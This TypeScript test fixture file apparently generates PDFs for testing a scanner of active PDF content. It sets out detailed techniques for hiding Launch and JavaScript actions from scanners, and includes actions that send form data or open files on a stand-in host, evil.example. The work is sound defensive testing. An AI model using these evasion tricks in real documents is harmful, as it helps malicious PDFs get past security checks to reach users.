import { deflateSync } from 'node:zlib'
import { catalogue, page, type Part, pages, pdfWithTable, stream, updated } from './pdf-with-table'

type Make = () => Buffer

const scriptAt5 = '5 0 obj\n<</S/JavaScript/JS(app.alert\\(1\\))>>\nendobj'
const launchAt5 = '5 0 obj\n<</S/Launch/F(calc.exe)>>\nendobj'
const remoteAt5 = '5 0 obj\n<</S/GoToR/F(\\\\\\\\evil.example\\\\share\\\\a.pdf)/D[0/Fit]>>\nendobj'
const harmlessAt5 = '5 0 obj\n<</S/GoTo/D[3 0 R/Fit]>>\nendobj'

const opening = [catalogue('/OpenAction 5 0 R'), pages, page()]
/** The table points viewers to the second object 5, where a scan finds no object. */
const sent = (words: string) => ({ sent: { 5: words } })

/** Hidden from a scan: the bytes that the cross-reference table points to do not look like an object. */
export const hiddenPdfs: Record<string, Make> = {
  'a script in a stream': () =>
    pdfWithTable([...opening, stream(4, `BT ET\n${scriptAt5}`)], sent('5 0 obj')),
  'a script in a string': () =>
    pdfWithTable([...opening, `4 0 obj\n(${scriptAt5})\nendobj`], sent('5 0 obj')),
  'a script in a comment': () =>
    pdfWithTable([...opening, `%${scriptAt5.replaceAll('\n', ' ')}`], sent('5 0 obj')),
  'a launch in a stream': () =>
    pdfWithTable([...opening, stream(4, `BT ET\n${launchAt5}`)], sent('5 0 obj')),
  'a launch in a string': () =>
    pdfWithTable([...opening, `4 0 obj\n(${launchAt5})\nendobj`], sent('5 0 obj')),
  'a launch in a comment': () =>
    pdfWithTable([...opening, `%${launchAt5.replaceAll('\n', ' ')}`], sent('5 0 obj')),
  'a launch in a stream beside a harmless object of its number': () =>
    pdfWithTable([...opening, harmlessAt5, stream(4, launchAt5)], sent(launchAt5)),
  'a launch in a stream that a table stream points into': () =>
    pdfWithTable([...opening, harmlessAt5, stream(4, launchAt5)], {
      ...sent(launchAt5),
      table: 'stream',
    }),
  'a launch in a stream that only an older table points into': () =>
    updated(pdfWithTable([...opening, stream(4, launchAt5)], sent(launchAt5)), [pages]),
  'a catalogue in a stream': () =>
    pdfWithTable(
      [catalogue(), pages, page(), launchAt5, stream(4, catalogue('/OpenAction 5 0 R'))],
      {
        sent: { 1: '1 0 obj\n<</Type/Catalog/Pages 2 0 R/OpenAction' },
      },
    ),
  'a page in a string': () =>
    pdfWithTable(
      [catalogue(), pages, page(), `4 0 obj\n(${page('/AA<</O<</S/URI>>>>')})\nendobj`],
      {
        sent: { 3: page('/AA<</O<</S/URI>>>>') },
      },
    ),
  'an object stream in a stream': () => {
    const packed = deflateSync('5 0 <</S/Launch/F(calc.exe)>>', { level: 9 })
    const inner = stream(7, packed, '/Type/ObjStm/N 1/First 4/Filter/FlateDecode')
    // For a scan that searches for `endstream`, the outer stream ends with the inner one.
    return pdfWithTable([...opening, stream(4, inner)], { sent: { 7: '7 0 obj' } })
  },
  'a header split by a comment': () => {
    const split = launchAt5.replace('5 0 obj', '5 %\n0 %\nobj')
    return pdfWithTable([...opening, stream(4, split)], sent('5 %'))
  },
  'a header without the last space': () => {
    const tight = launchAt5.replace('5 0 obj', '5 0obj')
    return pdfWithTable([...opening, stream(4, tight)], sent('5 0obj'))
  },
  'a table that is broken, so that viewers look into streams too': () => {
    const file = pdfWithTable([...opening, stream(4, `\nendobj\n${launchAt5}`)])
    return Buffer.from(file.toString('latin1').replace(/startxref\n\d+/, 'startxref\n7'), 'latin1')
  },
  'the table far from the end': () =>
    Buffer.concat([
      pdfWithTable([...opening, stream(4, launchAt5)], sent('5 0 obj')),
      Buffer.from(`%${' '.repeat(3000)}\n`),
    ]),
  'an earlier object of the same number': () =>
    pdfWithTable([...opening, launchAt5, harmlessAt5], sent(launchAt5)),
  'an earlier object that opens a file of another host': () =>
    pdfWithTable([...opening, remoteAt5, harmlessAt5], sent(remoteAt5)),
  'an object behind the end of the file': () => {
    const file = pdfWithTable(opening).toString('latin1')
    return pdfWithTable([file.slice(file.indexOf('1 0 obj')), launchAt5], sent(launchAt5))
  },
  'an object stream that seems to end early': () => {
    const first = '(\nendstream\nendobj\n)'
    const content = `6 0 5 ${first.length + 1} ${first} <</S/Hide/T(a)>>`
    const start = content.indexOf('(')
    return pdfWithTable([...opening, stream(7, content, `/Type/ObjStm/N 2/First ${start}`)])
  },
  'a trailer in a stream that holds its own catalogue': () => {
    const acting = '/Root<</Type/Catalog/Pages 2 0 R/OpenAction<</S/Hide/T(a)>>>>/Size 9'
    const table = `xref\n0 1\n0000000000 65535 f \ntrailer\n<<${acting}>>`
    const text = pdfWithTable([catalogue(), pages, page(), stream(4, table)]).toString('latin1')
    const start = `startxref\n${text.indexOf('xref')}`
    return Buffer.from(text.replace(/startxref\n\d+/, start), 'latin1')
  },
  'an object stream packed by a short name': () => {
    const packed = deflateSync('5 0 <</S/Launch/F(calc.exe)>>', { level: 9 })
    return pdfWithTable([...opening, stream(7, packed, '/Type/ObjStm/N 1/First 4/Filter/Fl')])
  },
  'an object stream of a kind behind a reference': () => {
    const packed = deflateSync('5 0 <</S/Launch/F(calc.exe)>>', { level: 9 })
    const kind = '/Type 8 0 R/N 1/First 4/Filter/FlateDecode'
    return pdfWithTable([...opening, stream(7, packed, kind), '8 0 obj\n/ObjStm\nendobj'])
  },
  ...Object.fromEntries(
    ['.0', '0E0', '0-0', '-0', `${' '.repeat(60)}0`].map((generation) => [
      `a launch whose header says ${generation.trim()}${generation.startsWith(' ') ? ' after 60 spaces' : ''}`,
      () => {
        const header = `5 ${generation} obj`
        return pdfWithTable(
          [...opening, stream(4, launchAt5.replace('5 0 obj', header))],
          sent(header),
        )
      },
    ]),
  ),
  'a launch after 60 spaces that only an older table points into': () => {
    const header = `5${' '.repeat(60)}0 obj`
    const hidden = stream(4, launchAt5.replace('5 0 obj', header))
    return updated(pdfWithTable([...opening, hidden], sent(header)), ['5 0 obj\n<<>>\nendobj'])
  },
  'a trailer after 60 spaces in a stream': () => {
    const acting = '/Root<</Type/Catalog/Pages 2 0 R/OpenAction<</S/Hide/T(a)>>>>/Size 9'
    const table = `xref\n0 1\n0000000000 65535 f \ntrailer${' '.repeat(60)}<<${acting}>>`
    const text = pdfWithTable([catalogue(), pages, page(), stream(4, table)]).toString('latin1')
    const start = `startxref\n${text.indexOf('xref')}`
    return Buffer.from(text.replace(/startxref\n\d+/, start), 'latin1')
  },
  'an object stream that PDF.js reads by the key F': () => {
    const hex = Buffer.from('5 0 <</S/Launch/F(calc.exe)>>').toString('hex')
    const spaced = hex.replaceAll(/../g, '$& ')
    const keys = '/Type/ObjStm/N 1/First 4/F/ASCIIHexDecode'
    return pdfWithTable([...opening, stream(7, `${spaced}>`, keys)])
  },
  'an object stream with a predictor': () => {
    const keys = '/Type/ObjStm/N 1/First 4/DecodeParms<</Predictor 12/Columns 4>>'
    return pdfWithTable([...opening, stream(7, '5 0 <<>>', keys)])
  },
  'an annotation in an object that cannot be parsed': () =>
    pdfWithTable([
      catalogue(),
      pages,
      page(),
      '4 0 obj\n<</Type/Page/Annots[5 0 R]/X foo/Y ]>>\nendobj',
      '5 0 obj\n<</Subtype/Screen>>\nendobj',
    ]),
}

const opens = (action: string, ...more: Part[]) =>
  pdfWithTable([catalogue(`/OpenAction ${action}`), pages, page(), ...more])
const annotated = (annotation: string, ...more: Part[]) =>
  pdfWithTable([
    catalogue(),
    pages,
    page('/Annots[5 0 R]'),
    `5 0 obj\n<</Type/Annot/Rect[0 0 99 99]${annotation}>>\nendobj`,
    ...more,
  ])
const clicks = (action: string, ...more: Part[]) => annotated(`/Subtype/Link/A${action}`, ...more)
const bookmarked = (action: string) =>
  pdfWithTable([
    catalogue('/Outlines 6 0 R'),
    pages,
    page(),
    '6 0 obj\n<</First 7 0 R/Last 7 0 R/Count 1>>\nendobj',
    `7 0 obj\n<</Title(One)/Parent 6 0 R/A${action}>>\nendobj`,
  ])

/** Visible to a reader that follows the standard. */
export const openlyActivePdfs: Record<string, Make> = {
  'a click that opens a file on another host': () =>
    clicks('<</S/GoToR/F(\\\\\\\\evil.example\\\\share\\\\a.pdf)/D[0/Fit]>>'),
  'a click that opens an embedded file': () => clicks('<</S/GoToE/D[0/Fit]/T<</R/C/N(a)>>>>'),
  'a click that starts a program': () => clicks('<</S/Launch/F(calc.exe)>>'),
  'a click on a script address': () => clicks('<</S/URI/URI(javascript:alert\\(1\\))>>'),
  'a click on a file address': () => clicks('<</S/URI/URI(file:///C:/Windows/calc.exe)>>'),
  'a click on a network path': () => clicks('<</S/URI/URI(\\\\\\\\evil.example\\\\share)>>'),
  'a click on an address of nobody knows which kind': () =>
    clicks('<</S/URI/URI(ms-settings:privacy)>>'),
  'addresses completed to files': () =>
    pdfWithTable([catalogue('/URI<</Base(file:///C:/)>>'), pages, page()]),
  'a web address opened with the document': () => opens('<</S/URI/URI(https://evil.example)>>'),
  'a web address opened with the page': () =>
    pdfWithTable([catalogue(), pages, page('/AA<</O<</S/URI/URI(https://evil.example)>>>>')]),
  'a web address behind the pointer': () =>
    annotated('/Subtype/Link/AA<</E<</S/URI/URI(https://evil.example)>>>>'),
  'a web address behind a move to a page': () =>
    opens('<</S/GoTo/D[3 0 R/Fit]/Next<</S/URI/URI(https://evil.example)>>>>'),
  'a web address in a list behind a click': () =>
    clicks(
      '<</S/GoTo/D[3 0 R/Fit]/Next[6 0 R]>>',
      '6 0 obj\n<</S/URI/URI(https://a.example)>>\nendobj',
    ),
  'a web address behind a button': () =>
    annotated('/Subtype/Widget/FT/Btn/A<</S/URI/URI(https://evil.example)>>'),
  'a form that sends itself': () =>
    annotated('/Subtype/Widget/FT/Btn/A<</S/SubmitForm/F(https://evil.example)>>'),
  'a form that empties itself': () => annotated('/Subtype/Widget/FT/Btn/A<</S/ResetForm>>'),
  'a form that reads a file': () =>
    annotated('/Subtype/Widget/FT/Btn/A<</S/ImportData/F(C:/data.fdf)>>'),
  'a field that hides another': () => annotated('/Subtype/Widget/FT/Btn/A<</S/Hide/T(a)/H true>>'),
  'a field with a script for each key': () =>
    annotated('/Subtype/Widget/FT/Tx/AA<</K<</S/JavaScript/JS(1)>>>>'),
  'an XFA form': () =>
    pdfWithTable([
      catalogue('/AcroForm<</Fields[]/XFA 6 0 R>>'),
      pages,
      page(),
      stream(6, '<xdp/>'),
    ]),
  'a print dialogue by itself': () => opens('<</S/Named/N/Print>>'),
  'a script by itself': () => opens('<</S/JavaScript/JS(1)>>'),
  'a script whose kind is a reference': () =>
    opens('<</S 6 0 R/JS 7 0 R>>', '6 0 obj\n/JavaScript\nendobj', '7 0 obj\n(1)\nendobj'),
  'an action whose kind is a reference': () =>
    opens('<</S 6 0 R>>', '6 0 obj\n/SetOCGState\nendobj'),
  'an action that is a stream': () => opens('6 0 R', stream(6, '', '/S/Hide/T(a)')),
  'an action of no known kind': () => opens('<</S/Surprise>>'),
  'a kind of action written in escapes': () => clicks('<</S/#4caunch/F(calc.exe)>>'),
  'a key written in escapes': () => annotated('/Subtype/Link/#41<</S/Hide/T(a)>>'),
  'a script among the names': () =>
    pdfWithTable([
      catalogue('/Names<</JavaScript<</Names[(a)6 0 R]>>>>'),
      pages,
      page(),
      '6 0 obj\n<</S/JavaScript/JS(1)>>\nendobj',
    ]),
  'a file among the names': () =>
    pdfWithTable([catalogue('/Names<</EmbeddedFiles<</Names[]>>>>'), pages, page()]),
  'a bookmark that starts a program': () => bookmarked('<</S/Launch/F(calc.exe)>>'),
  'a bookmark that opens another file': () => bookmarked('<</S/GoToR/F(b.pdf)/D[0/Fit]>>'),
  'an attached file': () =>
    annotated('/Subtype/FileAttachment/FS<</F(a)/EF<</F 6 0 R>>>>', stream(6, 'attached')),
  'a film': () => annotated('/Subtype/Movie/Movie<</F(a.avi)>>/A true'),
  'a sound': () => annotated('/Subtype/Sound/Sound 6 0 R', stream(6, 'a', '/R 8000')),
  'a click that plays a sound': () => clicks('<</S/Sound/Sound 6 0 R>>', stream(6, 'a', '/R 8000')),
  'a screen for films': () => annotated('/Subtype/Screen/A<</S/Rendition/OP 0>>'),
  'rich media': () => annotated('/Subtype/RichMedia/RichMediaContent<<>>'),
  'a three-dimensional model': () => annotated('/Subtype/3D/3DD 6 0 R', stream(6, 'U3D')),
  'a presentation step that acts': () =>
    pdfWithTable([catalogue(), pages, page('/PresSteps<</NA<</S/Thread/F(b.pdf)>>>>')]),
  'a click that is looked up before': () =>
    annotated('/Subtype/Link/PA<</S/URI/URI(file://evil.example/a)>>'),
  'a picture in another file': () =>
    pdfWithTable([catalogue(), pages, page(), stream(6, '', '/F(\\\\\\\\evil.example\\\\a)')]),
  'a page of another file shown in place': () =>
    pdfWithTable([
      catalogue(),
      pages,
      page(),
      stream(6, '', '/Subtype/Form/Ref<</F(b.pdf)/Page 0>>'),
    ]),
  'an action behind two references': () =>
    opens('5 0 R', '5 0 obj\n6 0 R\nendobj', '6 0 obj\n<</S/Hide/T(a)>>\nendobj'),
  'a page action behind two references': () =>
    pdfWithTable([
      catalogue(),
      pages,
      page('/AA<</O 5 0 R>>'),
      '5 0 obj\n6 0 R\nendobj',
      '6 0 obj\n<</S/URI/URI(https://evil.example)>>\nendobj',
    ]),
  'a screen behind two references': () =>
    pdfWithTable([
      catalogue(),
      pages,
      page('/Annots[5 0 R]'),
      '5 0 obj\n6 0 R\nendobj',
      '6 0 obj\n<</Subtype/Screen>>\nendobj',
    ]),
  'addresses completed to files behind two references': () =>
    pdfWithTable([
      catalogue('/URI 5 0 R'),
      pages,
      page(),
      '5 0 obj\n6 0 R\nendobj',
      '6 0 obj\n<</Base(file:///C:/)>>\nendobj',
    ]),
  'page actions in a list': () =>
    pdfWithTable([catalogue(), pages, page('/AA<</O[<</S/Hide/T(a)>>]>>')]),
  'actions in a list of lists': () => clicks('<</S/GoTo/D[3 0 R/Fit]/Next[[<</S/Hide/T(a)>>]]>>'),
  'a script before a harmless value of the same key': () =>
    pdfWithTable([
      catalogue('/OpenAction<</S/JavaScript/JS(1)>>/OpenAction[3 0 R/Fit]'),
      pages,
      page(),
    ]),
  'two kinds of one action': () => opens('<</S/Hide/S/GoTo>>'),
  'two kinds of one action in an object stream': () => {
    const packed = deflateSync('5 0 <</S/Hide/S/GoTo>>')
    return opens('5 0 R', stream(7, packed, '/Type/ObjStm/N 1/First 4/Filter/FlateDecode'))
  },
  'two addresses of one click': () => clicks('<</S/URI/URI(file:///C:/a)/URI(https://a.example)>>'),
  'two kinds of one annotation': () => annotated('/Subtype/Screen/Subtype/Link'),
  'a kind of annotation that depends on the revision': () =>
    updated(
      annotated('/Subtype 7 0 R/A<</S/URI/URI(https://a.example)>>', '7 0 obj\n/Widget\nendobj'),
      ['7 0 obj\n/Link\nendobj'],
    ),
  'a key that ends early for viewers in C': () =>
    pdfWithTable([catalogue('/AA#00<</WC<</S/Hide/T(a)>>>>'), pages, page()]),
  'an action in place of a destination': () =>
    annotated('/Subtype/Link/Dest<</S/URI/URI(file:///C:/a)>>'),
  'a jump that names another file': () =>
    opens('<</S/GoTo/F(\\\\\\\\evil.example\\\\a)/D[0/Fit]>>'),
  'a slide show': () =>
    pdfWithTable([catalogue('/Names<</AlternatePresentations<</Names[]>>>>'), pages, page()]),
  'a portfolio': () =>
    pdfWithTable([catalogue('/Collection<</View/D/Navigator 6 0 R>>'), pages, page()]),
  'a picture that a print shop replaces by a file': () =>
    pdfWithTable([catalogue(), pages, page(), stream(6, '', '/OPI<</2.0<</F(a)>>>>')]),
  'a program for a printer': () =>
    pdfWithTable([catalogue(), pages, page(), stream(6, 'systemdict', '/Subtype/PS')]),
}
